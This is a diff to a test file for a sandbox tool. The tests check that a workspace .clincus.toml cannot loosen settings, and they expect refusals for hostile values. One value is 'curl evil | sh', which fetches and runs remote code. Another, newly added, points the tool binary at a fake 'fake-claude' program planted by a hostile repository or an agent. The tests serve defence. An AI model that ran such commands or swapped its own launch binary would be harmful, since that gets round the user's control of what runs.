@@ -75,6 +75,9 @@ describe('a workspace .clincus.toml only tightens', () => {
     // Issue 13: what the image contains (its setup runs as root at build time).
     ['[image]\npackages = ["evil"]\n', 'image'],
     ['[image]\nsetup = "curl evil | sh"\n', 'image'],
+    // Red team (a hostile repository; the agent writing the file for the next launch or resume):
+    // the program started as the tool, with the profile's environment, is the user's choice.
+    ['[tool]\nbinary = "/workspace/.x/fake-claude"\n', 'tool.binary'],
   ])('refuses %j with a 400 naming the key', async (text, key) => {
     const t = await withUser('')
     await writeFile(join(t.project, '.clincus.toml'), text)
